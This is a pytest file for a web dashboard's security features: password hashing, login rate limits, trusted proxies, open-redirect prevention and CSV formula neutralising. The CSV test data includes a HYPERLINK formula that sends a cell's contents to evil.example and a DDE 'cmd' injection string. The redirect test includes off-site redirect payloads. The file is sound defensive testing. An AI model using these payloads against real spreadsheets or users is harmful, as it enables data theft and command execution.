"""The dashboard's password hashing, login limits, CSV cells, OpenAPI document and route
list (no database)."""

from __future__ import annotations

import asyncio
import json
import logging
import re
import threading
import time
from decimal import Decimal
from typing import Any

import jsonschema
import pytest
from openapi_spec_validator import validate
from sqlalchemy import create_engine
from starlette.routing import Route
from typer.testing import CliRunner

from greenloop.analytics.csv_cells import csv_cell
from greenloop.cli import app
from greenloop.config import load_settings
from greenloop.errors import ConfigError
from greenloop.web.dashboard import dashboard_routes, hash_password, verify_password
from greenloop.web.dashboard.api import FALLBACK
from greenloop.web.dashboard.logins import (
    Attempt,
    LoginLimiter,
    LoginOutcome,
    Logins,
    PasswordChecks,
    TooManyChecks,
    proxy_options,
)
from greenloop.web.dashboard.openapi import openapi_document
from greenloop.web.dashboard.routes import _safe_next
from tests.simulation import settings_for


def test_a_hash_verifies_its_password_only() -> None:
    stored = hash_password("correct horse battery staple")
    assert stored.startswith("scrypt$")
    assert "correct horse" not in stored
    assert verify_password("correct horse battery staple", stored)
    assert not verify_password("correct horse battery stapl", stored)
    assert not verify_password("", stored)
    assert hash_password("same") != hash_password("same")  # salted


@pytest.mark.parametrize(
    "stored", ["", "plain", "scrypt$1$2", "bcrypt$a$b$c$d$e", "scrypt$x$8$1$a$b"]
)
def test_malformed_hashes_never_verify(stored: str) -> None:
    assert not verify_password("anything", stored)


def test_an_empty_password_cannot_be_hashed() -> None:
    with pytest.raises(ValueError, match="empty"):
        hash_password("")


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("/customers?q=a", "/customers?q=a"),
        ("//evil.example/", "/"),
        ("https://evil.example/", "/"),
        ("/\\evil.example", "/"),
        (None, "/"),
    ],
)
def test_login_redirects_only_to_this_site(target: str | None, expected: str) -> None:
    assert _safe_next(target) == expected


def _openapi_path(route_path: str) -> str:
    return re.sub(r"\{(\w+)(:\w+)?\}", r"{\1}", route_path)


def test_every_api_route_is_described_and_every_description_is_a_route() -> None:
    settings = settings_for("http://127.0.0.1:1", "sqlite://")
    routes = dashboard_routes(settings, create_engine("sqlite://"))
    api = {
        (_openapi_path(r.path), method.lower())
        for r in routes
        if isinstance(r, Route) and r.path.startswith("/api/") and r.name != FALLBACK
        for method in (r.methods or set())
        if method != "HEAD"
    }
    paths = openapi_document()["paths"]
    described = {(path, method) for path, ops in paths.items() for method in ops}
    assert api == described


def _schemas(node: Any) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []
    if isinstance(node, dict):
        if "schema" in node and isinstance(node["schema"], dict):
            found.append(node["schema"])
        for value in node.values():
            found.extend(_schemas(value))
    elif isinstance(node, list):
        for value in node:
            found.extend(_schemas(value))
    return found


def test_the_openapi_document_is_well_formed() -> None:
    doc = openapi_document()
    assert doc["openapi"].startswith("3.1")
    for schema in [*doc["components"]["schemas"].values(), *_schemas(doc["paths"])]:
        jsonschema.Draft202012Validator.check_schema(schema)
    names = set(doc["components"]["schemas"])
    refs = re.findall(r"#/components/schemas/(\w+)", repr(doc))
    assert set(refs) <= names
    for path, ops in doc["paths"].items():
        params = set(re.findall(r"\{(\w+)\}", path))
        for op in ops.values():
            assert op["summary"]
            assert "200" in op["responses"]
            declared = {p["name"] for p in op.get("parameters", []) if p["in"] == "path"}
            assert declared == params, path


def test_templates_and_the_vendored_chart_library_ship_in_the_package() -> None:
    from importlib.resources import files

    package = files("greenloop.web.dashboard")
    for name in ("base.html", "overview.html", "person.html", "sync.html", "program.html"):
        assert (package / "templates" / name).is_file(), name
    vendor = package / "static" / "vendor"
    assert "Chart.js v4.6.1" in (vendor / "chart-4.6.1.umd.min.js").read_text()[:200]
    assert "MIT" in (vendor / "NOTICE").read_text()


def test_the_openapi_document_validates_against_the_openapi_31_schema() -> None:
    validate(openapi_document())  # raises on any violation of the OpenAPI 3.1 schema


def test_hash_password_reads_stdin_and_prints_a_hash_that_verifies() -> None:
    runner = CliRunner()
    result = runner.invoke(
        app, ["dashboard", "hash-password", "--stdin", "--json"], input="s3cret words\n"
    )
    assert result.exit_code == 0, result.output
    stored = json.loads(result.stdout)["admin_password_hash"]
    assert verify_password("s3cret words", stored)
    assert "s3cret" not in result.stdout
    text = runner.invoke(app, ["dashboard", "hash-password", "--stdin"], input="x y\n")
    assert text.stdout.startswith('admin_password_hash = "scrypt$')
    empty = runner.invoke(app, ["dashboard", "hash-password", "--stdin"], input="\n")
    assert empty.exit_code != 0
    assert "empty" in empty.output


def test_hash_password_prompts_twice_without_echo() -> None:
    result = CliRunner().invoke(app, ["dashboard", "hash-password"], input="pw one\npw one\n")
    assert result.exit_code == 0, result.output
    stored = result.stdout.strip().splitlines()[-1].split('"')[1]
    assert verify_password("pw one", stored)
    mismatch = CliRunner().invoke(app, ["dashboard", "hash-password"], input="a\nb\n")
    assert mismatch.exit_code != 0


# -- login limits (issue 14, item 4) ------------------------------------------------------


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def fail(limiter: LoginLimiter, address: str) -> tuple[int, float, float]:
    attempt = limiter.begin(address)
    assert isinstance(attempt, Attempt), f"{address} refused for {attempt} s"
    return limiter.failed(attempt)


def test_an_address_is_refused_after_its_failures_for_a_growing_time() -> None:
    clock = Clock()
    limiter = LoginLimiter(5, 100, 15 * 60, clock=clock)
    for n in range(1, 5):
        assert fail(limiter, "203.0.113.5") == (n, 0.0, 0.0)
    assert fail(limiter, "203.0.113.5") == (5, 60.0, 0.0)
    assert limiter.begin("203.0.113.5") == pytest.approx(60.0)
    assert isinstance(limiter.begin("203.0.113.6"), Attempt)  # another address may try
    blocks = []
    for _ in range(6):
        clock.now += limiter.begin("203.0.113.5")  # type: ignore[operator]
        for _ in range(4):
            fail(limiter, "203.0.113.5")
        blocks.append(fail(limiter, "203.0.113.5")[1])
    assert blocks == [120.0, 240.0, 480.0, 900.0, 900.0, 900.0]  # doubling, capped
    clock.now += 900 + 3601  # an hour without a failure forgets the repeats
    for _ in range(4):
        fail(limiter, "203.0.113.5")
    assert fail(limiter, "203.0.113.5")[1] == 60.0


def test_failures_leave_the_window_after_a_minute_and_a_success_starts_afresh() -> None:
    clock = Clock()
    limiter = LoginLimiter(5, 100, 900, clock=clock)
    for _ in range(4):
        fail(limiter, "a")
    clock.now += 61
    for _ in range(4):  # the first four are out of the window: no block
        assert fail(limiter, "a")[1] == 0.0
    attempt = limiter.begin("a")
    assert isinstance(attempt, Attempt)
    limiter.succeeded(attempt)
    for _ in range(4):
        assert fail(limiter, "a")[1] == 0.0


def test_the_account_is_refused_after_failures_from_many_addresses() -> None:
    clock = Clock()
    limiter = LoginLimiter(5, 20, 900, clock=clock)
    for n in range(19):
        assert fail(limiter, f"198.51.100.{n}")[2] == 0.0
    assert fail(limiter, "198.51.100.99")[2] == 60.0
    assert limiter.begin("192.0.2.1") == pytest.approx(60.0)  # a fresh address too


def test_concurrent_attempts_count_from_their_start() -> None:
    limiter = LoginLimiter(5, 100, 900, clock=Clock())
    started = [limiter.begin("a") for _ in range(30)]
    assert sum(isinstance(s, Attempt) for s in started) == 5


def test_the_address_table_is_bounded() -> None:
    limiter = LoginLimiter(5, 10**9, 900, clock=Clock(), max_addresses=100)
    for n in range(1000):
        fail(limiter, f"10.0.{n // 256}.{n % 256}")
    assert len(limiter._addresses) == 100


def test_password_checks_run_one_at_a_time_on_their_own_thread_and_refuse_a_pile() -> None:
    checks = PasswordChecks(1, waiting=3)
    running = 0
    most = 0
    threads: set[str] = set()
    lock = threading.Lock()

    def check() -> bool:
        nonlocal running, most
        with lock:
            running += 1
            most = max(most, running)
        threads.add(threading.current_thread().name)
        time.sleep(0.02)
        with lock:
            running -= 1
        return False

    async def flood() -> list[object]:
        return await asyncio.gather(*(checks.run(check) for _ in range(20)), return_exceptions=True)

    results = asyncio.run(flood())
    assert results.count(False) == 4  # one running and three waiting
    assert sum(isinstance(r, TooManyChecks) for r in results) == 16
    assert most == 1
    assert threads == {"greenloop-login_0"}
    assert checks.pending == 0


def test_a_login_flood_from_one_address_checks_five_passwords_and_is_logged(
    caplog: pytest.LogCaptureFixture,
) -> None:
    settings = settings_for("http://127.0.0.1:1", "sqlite://").dashboard
    logins = Logins(settings)
    checked = []

    def check() -> bool:
        checked.append(1)
        return False

    async def flood() -> list[LoginOutcome]:
        return list(
            await asyncio.gather(*(logins.attempt("203.0.113.9", check) for _ in range(50)))
        )

    with caplog.at_level(logging.INFO, logger="greenloop.web.dashboard.logins"):
        outcomes = asyncio.run(flood())
    statuses = sorted(o.status for o in outcomes)
    assert len(checked) == statuses.count(401) <= 5
    assert statuses.count(401) + statuses.count(429) + statuses.count(503) == 50
    assert all(o.retry_after >= 1 for o in outcomes if o.status in (429, 503))
    text = caplog.text
    assert "dashboard login failed from 203.0.113.9" in text
    assert "refused for 60 s" in text


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&B2,"Bella")',
            '\'=HYPERLINK("http://evil.example/?"&B2,"Bella")',
        ),
        ("+SUM(1,2)", "'+SUM(1,2)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\n=1+1"),
        ("Bella\r=1+1", "Bella\n=1+1"),  # a line break the csv writer quotes
        ("Bella\r\nSmith", "Bella\nSmith"),
        ("+16152384410", "'+16152384410"),
        ("Bella =1+1", "Bella =1+1"),
        ("", ""),
        (None, ""),
        (Decimal("-12.50"), "-12.50"),
        (-3, "-3"),
        (0.5, "0.5"),
    ],
)
def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(
    cell: object, written: str
) -> None:
    assert csv_cell(cell) == written


def test_trusted_proxies_are_addresses_or_ranges_only() -> None:
    dashboard = settings_for("http://127.0.0.1:1", "sqlite://").dashboard
    assert dashboard.trusted_proxies == ("127.0.0.1", "::1")
    assert proxy_options(dashboard) == {
        "proxy_headers": True,
        "forwarded_allow_ips": ["127.0.0.1", "::1"],
    }
    env = {"GREENLOOP_DASHBOARD__TRUSTED_PROXIES": "10.0.0.5, 10.1.0.0/16"}
    from_env = load_settings(None, env=env).dashboard
    assert from_env.trusted_proxies == ("10.0.0.5", "10.1.0.0/16")
    none = load_settings(None, env={"GREENLOOP_DASHBOARD__TRUSTED_PROXIES": ""}).dashboard
    assert proxy_options(none) == {"proxy_headers": False, "forwarded_allow_ips": None}
    with pytest.raises(ConfigError, match="not an IP address"):
        load_settings(None, env={"GREENLOOP_DASHBOARD__TRUSTED_PROXIES": "*"})
